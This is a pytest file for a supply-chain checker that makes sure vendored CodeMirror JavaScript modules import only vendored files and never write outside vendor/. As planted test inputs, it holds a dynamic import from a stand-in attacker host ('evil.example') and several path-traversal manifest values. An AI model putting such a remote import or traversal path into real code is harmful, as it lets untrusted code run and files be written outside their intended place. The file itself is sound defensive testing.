"""Vendored ES modules that import other packages by name (CodeMirror's) are served with
those names rewritten to relative paths; ``scripts/vendor-web --check`` verifies that
every vendored module imports only vendored files, as the manifest records, wherever
the import stands (minified code puts several on a line), that no module imports
dynamically what the manifest does not list, and that every file stays under vendor/."""

from __future__ import annotations

import hashlib
import importlib.machinery
import importlib.util
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from leosuite.api.http.web import WEB_ROOT

ROOT = Path(__file__).resolve().parents[1]
IMPORT = re.compile(r"""(?<![\w$.])(?:import|export)\b[^'";]*?\bfrom\s*['"]([^'"]+)['"]""")
DYNAMIC = re.compile(r"""(?<![\w$.])import\s*\(""")


def _script() -> ModuleType:
    """scripts/vendor-web as a module (its name has no .py)."""
    path = str(ROOT / "scripts" / "vendor-web")
    loader = importlib.machinery.SourceFileLoader("vendor_web", path)
    spec = importlib.util.spec_from_loader("vendor_web", loader)
    assert spec is not None
    module = importlib.util.module_from_spec(spec)
    loader.exec_module(module)
    return module


def _check(repo: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(repo / "scripts" / "vendor-web"), "--check"],
        capture_output=True,
        text=True,
        check=False,
    )


def _copy(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    shutil.copytree(ROOT / "scripts", repo / "scripts")
    shutil.copytree(WEB_ROOT / "vendor", repo / "leosuite" / "web" / "vendor")
    return repo


def test_vendored_modules_import_vendored_files_only() -> None:
    manifest = json.loads((WEB_ROOT / "vendor" / "manifest.json").read_text())
    rewritten = 0
    for pkg in manifest["packages"]:
        for entry in pkg["files"].values():
            if not entry["to"].endswith((".js", ".mjs")):
                continue
            target = WEB_ROOT / "vendor" / entry["to"]
            text = target.read_text()
            assert not DYNAMIC.search(text), entry["to"]
            for spec in IMPORT.findall(text):
                assert spec.startswith(("./", "../")), (entry["to"], spec)
                assert (target.parent / spec).resolve().is_file(), (entry["to"], spec)
            if entry.get("imports"):
                rewritten += 1
                assert entry["source_sha256"] != entry["sha256"]
    # CodeMirror's view, language, commands, grammars: rewritten, not copied as published.
    assert rewritten >= 8


def test_a_bare_import_left_in_a_vendored_module_is_caught(tmp_path: Path) -> None:
    repo = _copy(tmp_path)
    vendor = repo / "leosuite" / "web" / "vendor"
    manifest_path = vendor / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    (view,) = [p for p in manifest["packages"] if p["name"] == "@codemirror/view"]
    entry = view["files"]["dist/index.js"]
    target = vendor / entry["to"]
    text = target.read_text().replace("'../state/index.js'", "'@codemirror/state'", 1)
    target.write_text(text)
    # Even with the manifest's hash made to match, the import itself is refused.
    entry["sha256"] = hashlib.sha256(target.read_bytes()).hexdigest()
    manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
    result = _check(repo)
    assert result.returncode == 1
    assert "imports '@codemirror/state', not a vendored file" in result.stderr


def test_an_import_of_a_package_no_longer_vendored_is_caught(tmp_path: Path) -> None:
    repo = _copy(tmp_path)
    vendor = repo / "leosuite" / "web" / "vendor"
    manifest_path = vendor / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["packages"] = [p for p in manifest["packages"] if p["name"] != "crelt"]
    manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
    shutil.rmtree(vendor / "crelt")
    result = _check(repo)
    assert result.returncode == 1
    assert "view/index.js: imports ../../crelt/index.js, which is not vendored" in result.stderr


MINIFIED = (
    'import{a as b}from"@codemirror/state";import{c}from"crelt";'
    "export{d}from'style-mod';import\"w3c-keyname\";const e=x.import,f=import.meta.url;"
)


def test_every_import_on_a_minified_line_is_rewritten() -> None:
    vendor_web = _script()
    modules = {
        "@codemirror/state": "codemirror/state/index.js",
        "crelt": "crelt/index.js",
        "style-mod": "style-mod/style-mod.js",
        "w3c-keyname": "w3c-keyname/index.js",
    }
    text, done = vendor_web._rewrite(MINIFIED, "codemirror/view/index.js", modules, "view")
    assert text == (
        'import{a as b}from"../state/index.js";import{c}from"../../crelt/index.js";'
        "export{d}from'../../style-mod/style-mod.js';import\"../../w3c-keyname/index.js\";"
        "const e=x.import,f=import.meta.url;"
    )
    assert set(done) == set(modules)
    # A package nobody vendors, even second on a line, stops the refresh.
    with pytest.raises(SystemExit, match="imports 'left-pad', which no vendored package"):
        vendor_web._rewrite('import"crelt";import"left-pad";', "a/b.js", modules, "a")


def _plant(tmp_path: Path, change: str) -> tuple[Path, dict[str, Any], dict[str, Any]]:
    """A copy of the repository whose vendored view module ends with ``change``, its
    manifest hash made to match (so only the import checks can refuse it)."""
    repo = _copy(tmp_path)
    vendor = repo / "leosuite" / "web" / "vendor"
    manifest = json.loads((vendor / "manifest.json").read_text())
    (view,) = [p for p in manifest["packages"] if p["name"] == "@codemirror/view"]
    entry = view["files"]["dist/index.js"]
    target = vendor / entry["to"]
    target.write_text(target.read_text() + change)
    entry["sha256"] = hashlib.sha256(target.read_bytes()).hexdigest()
    return repo, manifest, entry


def _write_manifest(repo: Path, manifest: dict[str, Any]) -> None:
    path = repo / "leosuite" / "web" / "vendor" / "manifest.json"
    path.write_text(json.dumps(manifest, indent=2) + "\n")


def test_a_second_import_on_a_line_is_caught(tmp_path: Path) -> None:
    repo, manifest, _ = _plant(tmp_path, 'import"../state/index.js";import{x}from"left-pad";\n')
    _write_manifest(repo, manifest)
    result = _check(repo)
    assert result.returncode == 1
    assert "view/index.js: imports 'left-pad', not a vendored file" in result.stderr


@pytest.mark.parametrize(
    ("code", "shown"),
    [
        ('const m=await import("https://evil.example/x.js");', '"https://evil.example/x.js"'),
        ("x.then(()=>import ( './lazy.js' ));", "'./lazy.js'"),
        ("const m=import(url);", "url"),
    ],
)
def test_a_dynamic_import_is_caught_unless_listed(tmp_path: Path, code: str, shown: str) -> None:
    repo, manifest, entry = _plant(tmp_path, code + "\n")
    _write_manifest(repo, manifest)
    result = _check(repo)
    assert result.returncode == 1
    assert f"view/index.js: dynamic import({shown}), not in its dynamic_imports" in result.stderr
    # Listed as written in the file's manifest entry, it is accepted.
    entry["dynamic_imports"] = [shown]
    _write_manifest(repo, manifest)
    result = _check(repo)
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize(
    "to", ["../../../outside.js", "/tmp/outside.js", "crelt/../../outside.js", "crelt\\x.js", ""]
)
def test_a_file_outside_vendor_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, to: str
) -> None:
    repo = _copy(tmp_path)
    vendor = repo / "leosuite" / "web" / "vendor"
    manifest = json.loads((vendor / "manifest.json").read_text())
    (crelt,) = [p for p in manifest["packages"] if p["name"] == "crelt"]
    crelt["files"]["index.js"]["to"] = to
    _write_manifest(repo, manifest)
    result = _check(repo)
    assert result.returncode == 1
    assert f"crelt/index.js: {to!r} is not" in result.stderr
    # A refresh refuses it before anything is fetched or written.
    vendor_web = _script()

    def no_fetch(url: str) -> bytes:
        raise AssertionError(f"fetched {url}")

    monkeypatch.setattr(vendor_web, "_get", no_fetch)
    with pytest.raises(SystemExit, match=re.escape(f"crelt/index.js: {to!r} is not")):
        vendor_web.refresh({"packages": [crelt]}, latest=False)
